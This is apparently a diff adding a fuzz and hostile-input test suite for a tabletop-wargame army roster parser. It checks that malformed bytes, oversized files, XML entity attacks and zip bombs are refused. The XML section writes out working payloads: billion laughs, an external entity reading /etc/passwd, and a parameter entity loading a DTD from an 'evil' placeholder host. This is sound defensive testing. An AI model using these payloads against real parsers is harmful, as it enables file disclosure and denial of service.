@@ -1,0 +1,346 @@
+"""Hostile input: any bytes give a Roster or a RosterError, never another exception."""
+
+import io
+import zipfile
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from campaign.rosters import (
+    MAX_BYTES,
+    MAX_MEMBERS,
+    MAX_UNZIPPED_BYTES,
+    Roster,
+    RosterError,
+    app_text,
+    battlescribe,
+    newrecruit_text,
+    parse_roster,
+)
+from tests.rosters.expected import SAMPLES, sample_files
+
+FUZZ = settings(
+    max_examples=150,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+SAMPLE_BYTES = {path.name: path.read_bytes() for path in sample_files()}
+TEXT_SAMPLES = {name: data for name, data in SAMPLE_BYTES.items() if name.endswith(".txt")}
+
+FRAGMENTS = [
+    "\n",
+    "\n",
+    "\r\n",
+    " ",
+    "  ",
+    "\u00a0",
+    "\t",
+    "\u2022 ",
+    "\u25e6 ",
+    "- ",
+    "1x ",
+    "10x ",
+    "Boyz",
+    "Warboss",
+    "(",
+    ")",
+    "[",
+    "]",
+    "85",
+    "1 000",
+    "1,000",
+    " Points",
+    " points",
+    " pts",
+    "pts",
+    ": ",
+    ", ",
+    "+",
+    "&",
+    "#",
+    "## ",
+    "# ++ Army Roster ++ ",
+    "Char1: ",
+    "+ FACTION KEYWORD: ",
+    "+ TOTAL ARMY POINTS: ",
+    "+ WARLORD: ",
+    "+ NUMBER OF UNITS: ",
+    "CHARACTERS",
+    "BATTLELINE",
+    "OTHER DATASHEETS",
+    "Warlord",
+    "Enhancement: ",
+    "Enhancements: ",
+    "(+15 pts)",
+    "[15 pts]",
+    " upgrade",
+    "Attached as: Leader (Character)",
+    "Keyword: Character",
+    "Battle Size: ",
+    "Detachment: ",
+    "## Configuration",
+    " - ",
+    "[[note]]",
+    "Exported with App Version",
+    "Created with newrecruit",
+    "1 with ",
+    "(3 Detachment Points)",
+    "Leading ",
+    "\ufeff",
+    "\x00",
+    "\ufffd",
+    "9" * 12,
+    "\u00b9",
+    "\u0663",
+    "\uff15",
+    "\u00bd",
+]
+grammar_text = st.lists(st.sampled_from(FRAGMENTS), max_size=400).map("".join)
+
+
+def assert_reads_or_refuses(data: bytes | str) -> None:
+    """The contract: a well-formed Roster, or a one-line RosterError."""
+    try:
+        roster = parse_roster(data)
+    except RosterError as error:
+        assert error.message
+        assert "\n" not in error.message and "\r" not in error.message
+        return
+    assert isinstance(roster, Roster)
+    assert roster.units
+    assert isinstance(roster.total_points, int)
+    for unit in roster.units:
+        assert unit.name
+        assert isinstance(unit.points, int) and unit.points >= 0
+        assert isinstance(unit.models, int) and unit.models >= 1
+        assert unit.enhancement_points is None or unit.enhancement
+    assert all("\n" not in warning for warning in roster.warnings)
+
+
+@given(st.binary(max_size=3000))
+@FUZZ
+def test_it_reads_or_refuses_any_bytes(data):
+    assert_reads_or_refuses(data)
+
+
+@given(st.text(max_size=3000))
+@FUZZ
+def test_it_reads_or_refuses_any_text(text):
+    assert_reads_or_refuses(text)
+
+
+@given(grammar_text)
+@FUZZ
+def test_it_reads_or_refuses_text_made_of_roster_fragments(text):
+    assert_reads_or_refuses(text)
+
+
+@given(st.sampled_from(sorted(SAMPLE_BYTES)), st.data())
+@FUZZ
+def test_it_reads_or_refuses_truncated_samples(name, data):
+    sample = SAMPLE_BYTES[name]
+    cut = data.draw(st.integers(min_value=0, max_value=len(sample)), label="cut")
+    assert_reads_or_refuses(sample[:cut])
+
+
+@given(st.sampled_from(sorted(SAMPLE_BYTES)), st.data())
+@FUZZ
+def test_it_reads_or_refuses_samples_with_random_bytes_changed(name, data):
+    sample = bytearray(SAMPLE_BYTES[name])
+    flips = data.draw(
+        st.lists(
+            st.tuples(st.integers(0, len(sample) - 1), st.integers(0, 255)), min_size=1, max_size=30
+        ),
+        label="flips",
+    )
+    for position, value in flips:
+        sample[position] = value
+    assert_reads_or_refuses(bytes(sample))
+
+
+@given(st.sampled_from(sorted(SAMPLE_BYTES)), st.data())
+@FUZZ
+def test_it_reads_or_refuses_samples_with_lines_inserted(name, data):
+    lines = SAMPLE_BYTES[name].split(b"\n")
+    inserts = data.draw(
+        st.lists(st.tuples(st.integers(0, len(lines)), grammar_text.map(str.encode)), max_size=5),
+        label="inserts",
+    )
+    for position, line in inserts:
+        lines.insert(position, line)
+    assert_reads_or_refuses(b"\n".join(lines))
+
+
+PARSERS = {
+    "app-text": lambda text: app_text.parse(text).build(),
+    "newrecruit-full": lambda text: newrecruit_text.parse_full(text).build(),
+    "newrecruit-round": lambda text: newrecruit_text.parse_round(text).build(),
+    "json": lambda text: battlescribe.parse_json(text).build(),
+    "ros": lambda text: battlescribe.parse_ros(text.encode("utf-8", "replace")).build(),
+    "rosz": lambda text: battlescribe.unzip_rosz(text.encode("utf-8", "replace")),
+}
+
+
+@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
+@given(
+    text=st.one_of(
+        grammar_text,
+        st.sampled_from(sorted(TEXT_SAMPLES)).map(lambda name: TEXT_SAMPLES[name].decode("utf-8")),
+    )
+)
+@settings(FUZZ, max_examples=60)
+def test_it_lets_each_grammar_read_or_refuse_any_text_even_of_another_format(parser, text):
+    """Detection aside, every parser copes with whatever text it is handed."""
+    try:
+        parser(text)
+    except RosterError as error:
+        assert "\n" not in error.message
+
+
+# --- size -----------------------------------------------------------------------------
+
+
+def test_it_refuses_input_over_one_megabyte():
+    data = (SAMPLES / "app-text" / "space-wolves-boop.txt").read_bytes()
+    with pytest.raises(RosterError, match="over 1 MB"):
+        parse_roster(data + b"\n" * (MAX_BYTES + 1 - len(data)))
+    with pytest.raises(RosterError, match="over 1 MB"):
+        parse_roster("\u2022" * (MAX_BYTES // 3 + 1))
+    assert MAX_BYTES == 1_000_000
+
+
+def test_it_reads_a_list_padded_to_exactly_the_limit():
+    data = (SAMPLES / "app-text" / "space-wolves-boop.txt").read_bytes()
+    assert len(parse_roster(data + b"\n" * (MAX_BYTES - len(data))).units) == 14
+
+
+@pytest.mark.parametrize("data", [b"", b"   \n\r\n\t ", ""])
+def test_it_refuses_an_empty_file(data):
+    with pytest.raises(RosterError, match="empty"):
+        parse_roster(data)
+
+
+# --- XML ------------------------------------------------------------------------------
+
+ROSTER = (
+    '<roster xmlns="http://www.battlescribe.net/schema/rosterSchema" name="{name}">'
+    '<forces><force catalogueName="Xenos - Orks"><selections>'
+    '<selection name="Boyz" type="unit"><costs><cost name="pts" value="85"/></costs></selection>'
+    "</selections></force></forces></roster>"
+)
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE roster [\n <!ENTITY lol "lol">\n'
+    + "".join(
+        f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">\n'
+        for n in range(1, 10)
+    )
+    + "]>\n"
+    + ROSTER.format(name="&lol9;")
+)
+EXTERNAL_ENTITY = (
+    '<?xml version="1.0"?>\n<!DOCTYPE roster [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+    + ROSTER.format(name="&xxe;")
+)
+EXTERNAL_DTD = (
+    '<?xml version="1.0"?>\n<!DOCTYPE roster SYSTEM "http://example.invalid/roster.dtd">\n'
+    + ROSTER.format(name="Boyz")
+)
+PARAMETER_ENTITY = (
+    '<?xml version="1.0"?>\n<!DOCTYPE roster [<!ENTITY % remote SYSTEM '
+    '"http://example.invalid/evil.dtd"> %remote;]>\n' + ROSTER.format(name="Boyz")
+)
+
+
+def test_it_reads_the_plain_roster_the_attacks_below_are_built_on():
+    roster = parse_roster(ROSTER.format(name="Ladz"))
+    assert (roster.name, roster.faction, roster.units[0].name) == ("Ladz", "Orks", "Boyz")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
+    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
+)
+def test_it_refuses_xml_entities_and_dtds(document):
+    with pytest.raises(RosterError, match="refused for safety") as refusal:
+        parse_roster(document)
+    assert "root:" not in refusal.value.message
+
+
+def test_it_refuses_an_html_page_as_not_a_roster():
+    with pytest.raises(RosterError, match="isn't an army list it can read"):
+        parse_roster("<!DOCTYPE html>\n<html><body><p>My army</p></body></html>")
+
+
+def test_it_refuses_a_battlescribe_catalogue():
+    with pytest.raises(RosterError, match="catalogue, not a roster"):
+        parse_roster('<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema"/>')
+
+
+def test_it_refuses_selections_nested_deeper_than_any_roster():
+    nested = '<selection name="x" type="upgrade"><selections>' * 60
+    closing = "</selections></selection>" * 60
+    document = ROSTER.replace("<selections>", "<selections>" + nested + closing, 1)
+    with pytest.raises(RosterError, match="nests selections too deeply"):
+        parse_roster(document)
+
+
+# --- .rosz ----------------------------------------------------------------------------
+
+
+def rosz(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_it_reads_a_rosz_built_from_a_ros():
+    data = (SAMPLES / "battlescribe-ros" / "necrons-10e-1205.ros").read_bytes()
+    roster = parse_roster(rosz({"Necrons 10e.ros": data}))
+    assert roster.format == "battlescribe-rosz"
+    assert roster.units == parse_roster(data).units
+
+
+def test_it_refuses_a_zip_bomb_by_its_size():
+    bomb = rosz({"bomb.ros": b"\0" * (MAX_UNZIPPED_BYTES * 5)})
+    assert len(bomb) < 100_000
+    with pytest.raises(RosterError, match="unpacks to more than 4 MB"):
+        parse_roster(bomb)
+
+
+def test_it_refuses_a_zip_bomb_by_its_compression_ratio():
+    """Under the size limit, but compressed a thousandfold: no roster compresses like that."""
+    bomb = rosz({"bomb.ros": b"<roster>" + b" " * (MAX_UNZIPPED_BYTES // 2) + b"</roster>"})
+    with pytest.raises(RosterError, match="compressed suspiciously well"):
+        parse_roster(bomb)
+
+
+def test_it_refuses_a_zip_with_many_members():
+    crowded = rosz({f"part{n}.ros": b"<roster/>" for n in range(MAX_MEMBERS * 50)})
+    with pytest.raises(RosterError, match="a .rosz holds one roster"):
+        parse_roster(crowded)
+
+
+@pytest.mark.parametrize(
+    ("members", "message"),
+    [
+        ({"a.ros": b"<roster/>", "b.ros": b"<roster/>"}, "holds 2 rosters"),
+        ({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<t/>"}, "isn't an army list"),
+        ({"notes.txt": b"nothing to see"}, "isn't an army list"),
+    ],
+    ids=["two-rosters", "office-document", "one-text-file"],
+)
+def test_it_refuses_a_zip_that_is_not_one_roster(members, message):
+    with pytest.raises(RosterError, match=message):
+        parse_roster(rosz(members))
+
+
+def test_it_refuses_a_damaged_zip():
+    data = (SAMPLES / "battlescribe-ros" / "ultramarines-10e-810.rosz").read_bytes()
+    with pytest.raises(RosterError, match="damaged"):
+        parse_roster(data[: len(data) // 2])
